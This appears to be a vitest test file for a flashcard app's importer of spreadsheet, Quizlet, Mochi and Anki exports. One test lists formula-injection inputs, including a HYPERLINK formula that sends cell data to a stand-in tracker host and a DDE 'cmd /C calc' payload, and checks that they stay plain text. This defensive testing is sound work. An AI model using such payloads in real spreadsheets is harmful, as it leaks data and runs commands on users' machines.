import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { readFile, readFixture, reportsOf } from '../testing/fixtures.ts';

const linesOf = async (file: string) =>
  (await readFixture(file)).head.reports.map(({ code, line }) => `${line} ${code}`).toSorted();

describe('tables and lists of other programs', () => {
  it.each([
    ['excel-de-cp1252.csv', 6],
    ['excel-utf8-bom.csv', 6],
    ['excel-unicode-utf16le.txt', 3],
    ['libreoffice-quoted.csv', 10],
    ['google-sheets.csv', 10],
    ['google-sheets.tsv', 11],
    ['quizlet-default.txt', 12],
    ['quizlet-custom.txt', 6],
    ['formula-injection.csv', 9],
    ['ragged.csv', 3],
    ['duplicates.csv', 5],
    ['html-in-cells.csv', 4],
    ['notion-database.csv', 3],
    ['mochi-cards.md', 4],
    ['no-header.csv', 4],
    ['same-names.csv', 2],
  ])('%s has %i cards', async (file, count) => {
    expect((await readFixture(`text/${file}`)).cards.length).toBe(count);
  });

  it('a semicolon in quotes and the signs of windows-1252 are right, and the encoding is offered to choose', async () => {
    const { cards, head } = await readFixture('text/excel-de-cp1252.csv');
    expect(cards.map(({ front, back }) => [front, back])).toEqual([
      ['Straße', 'street'],
      ['Äpfel', 'apples'],
      ['Größe; Maß', 'size; measure'],
      ['fünf „Stück“', 'five "pieces"'],
      ['Weiß – nicht', "don't – know"],
      ['100 €', '100 euros'],
    ]);
    expect(head.encodings?.[0]?.encoding).toBe('windows-1252');
    expect(
      (await readFixture('text/excel-de-cp1252.csv', { encoding: 'windows-1251' })).cards[1]?.front,
    ).toBe('StraЯe');
  });

  it('the mark belongs to no column name, line breaks in cells stay, and tags are read', async () => {
    const { head, notes } = await readFixture('text/excel-utf8-bom.csv');
    expect(head.table?.columns).toEqual(['Front', 'Back', 'Tags']);
    expect(notes[4]?.fields).toEqual([
      'List three colours\nin Kiswahili',
      '1. nyekundu\n2. kijani\n3. "bluu"',
    ]);
    expect(notes.map(({ tags }) => tags)).toEqual([
      ['wanyama'],
      ['wanyama'],
      ['wanyama'],
      ['wanyama'],
      ['rangi', 'orodha'],
      [],
    ]);
  });

  it('quotation marks of Quizlet and of tables with tabs are text', async () => {
    const { cards } = await readFixture('text/quizlet-default.txt');
    expect(cards[10]).toMatchObject({ front: '"quoted" term', back: 'a, b; c' });
    expect((await readFixture('text/google-sheets.tsv')).cards[10]).toMatchObject({
      front: 'say "hi"',
      back: 'sema "habari"',
    });
  });

  it('cells that a spreadsheet would run keep their text', async () => {
    const { cards } = await readFixture('text/formula-injection.csv');
    expect(cards.map(({ front }) => front)).toEqual([
      '=1+1',
      '=HYPERLINK("https://tracker.invalid/?"&A1,"click")',
      '+254700000000',
      '-5',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=2+2',
      "'=3+3",
      "=cmd|' /C calc'!A0",
    ]);
  });

  it('a table whose lines end differently has all its cards, with their physical lines', async () => {
    const path = join(mkdtempSync(join(tmpdir(), 'card-file-')), 'mixed.csv');
    writeFileSync(path, 'q1,a1\nq2,a2\r\nq3,"one\r\ntwo"\rq4,a4\rq5,\nq6,a6\r\n');
    const { cards, head } = await readFile(path);
    expect(cards.map(({ front, back }) => [front, back])).toEqual([
      ['q1', 'a1'],
      ['q2', 'a2'],
      ['q3', 'one\r\ntwo'],
      ['q4', 'a4'],
      ['q6', 'a6'],
    ]);
    expect(head.reports.map(({ code, line }) => [code, line])).toEqual([['no-back', 6]]);
  });

  it('a table of an old Mac has all its cards when an inch sign stands in one', async () => {
    const path = join(mkdtempSync(join(tmpdir(), 'card-file-')), 'inch.csv');
    writeFileSync(path, 'Front,Back\rscrew,5" long\rq2,a2\rq3,"one ""1""\rtwo"\rq4,a4\r');
    const { cards } = await readFile(path);
    expect(cards.map(({ front, back }) => [front, back])).toEqual([
      ['screw', '5" long'],
      ['q2', 'a2'],
      ['q3', 'one "1"\rtwo'],
      ['q4', 'a4'],
    ]);
  });

  it('rows without a card are reported with their physical lines', async () => {
    expect(await linesOf('text/ragged.csv')).toEqual([
      '3 no-back',
      '5 no-front',
      '6 extra-cells',
      '8 no-back',
    ]);
    expect(await linesOf('text/duplicates.csv')).toEqual([
      '4 duplicate',
      '5 duplicate',
      '6 similar',
      '9 duplicate',
    ]);
  });

  it('the learner decides about the head line and the columns', async () => {
    const mapping = { hasHeader: true, front: 1, back: 0 };
    const { cards } = await readFixture('text/no-header.csv', { columns: mapping });
    expect(cards.map(({ front, back }) => [front, back])).toEqual([
      ['nyuma', 'back'],
      ['swali', 'question'],
      ['jibu', 'answer'],
    ]);
  });

  it('cells are text, HTML or Markdown as the learner says, and nothing of them runs', async () => {
    const columns = { hasHeader: true, front: 0, back: 1, tags: 3 };
    const plain = await readFixture('text/html-in-cells.csv');
    expect(plain.cards[0]).toMatchObject({ front: '<b>simba</b>', back: 'lion<br>king' });
    const html = await readFixture('text/html-in-cells.csv', { columns: { ...columns, cells: 'html' } });
    expect(html.cards.slice(0, 3).map(({ front, back }) => [front, back])).toEqual([
      ['**simba**', 'lion\\\nking'],
      ['1 < 2 & 3 > 2', 'x < y'],
      ['tembo', 'elephant'],
    ]);
    const markdown = await readFixture('text/html-in-cells.csv', {
      columns: { ...columns, cells: 'markdown' },
    });
    expect(markdown.notes[3]).toMatchObject({
      format: 'rich',
      fields: ['**bold** and `code`', '| a | b |\n|---|---|\n| 1 | 2 |'],
    });
  });

  it('Markdown with --- keeps its code and formulas, and {{...}} are gaps', async () => {
    const { notes } = await readFixture('text/mochi-cards.md');
    expect(notes.map(({ kind, fields }) => [kind, ...fields])).toEqual([
      ['basic', '# Mlima Kenya\n\nHow high is it?', '**5,199 m**'],
      ['basic', 'What does this print?\n\n```js\nconsole.log([1, 2].map((x) => x * 2));\n```', '`[2, 4]`'],
      ['cloze', '{{c1::Nairobi}} is the capital of {{c1::Kenya}}.', ''],
      ['basic', String.raw`\(\int_0^1 x\,dx\)`, String.raw`\(\frac12\)`],
    ]);
  });
});

describe('text exports of Anki', () => {
  it.each(['small.notes.html.txt', 'small.notes.plain.txt', 'small.notes.bare.txt'])(
    '%s has 12 notes',
    async (file) => {
      expect((await readFixture(`anki/${file}`)).notes.length).toBe(12);
    },
  );

  it('note texts keep guid, deck, tags and the kind of their note type', async () => {
    const { notes } = await readFixture('anki/small.notes.html.txt');
    expect(notes.map(({ guid, kind }) => `${guid} ${kind}`)).toEqual([
      'kmb-kum-000 basic',
      'kmb-kum-001 basic',
      'kmb-kum-002 basic-reversed',
      'kmb-kum-003 basic-reversed',
      'kmb-kum-004 cloze',
      'kmb-kum-005 cloze',
      'kmb-kum-006 typed',
      'kmb-kum-007 basic',
      'kmb-kum-008 basic',
      'kmb-kum-009 basic',
      'kmb-kum-010 basic',
      'kmb-kum-011 image-occlusion',
    ]);
    expect(notes[0]).toMatchObject({
      tags: ['capitals', 'geo::africa'],
      cards: [{ deck: 'Kumbuka samples::Geography::Africa' }],
    });
  });

  it.each(['small.cards.html.txt', 'small.cards.plain.txt'])(
    'every one of the 20 cards of %s is read or reported',
    async (file) => {
      const result = await readFixture(`anki/${file}`);
      const { 'no-back': noBack = 0, duplicate = 0 } = reportsOf(result);
      expect([result.cards.length, noBack, duplicate]).toEqual([18, 1, 1]);
    },
  );
});

describe('lists of questions and answers', () => {
  it('a SuperMemo text is read by its labels', async () => {
    const path = join(mkdtempSync(join(tmpdir(), 'card-file-')), 'list.txt');
    writeFileSync(path, 'Q: simba\nA: lion\n\nQ: tembo\nA: elephant\n');
    expect((await readFile(path)).cards.map(({ front, back }) => [front, back])).toEqual([
      ['simba', 'lion'],
      ['tembo', 'elephant'],
    ]);
  });
});
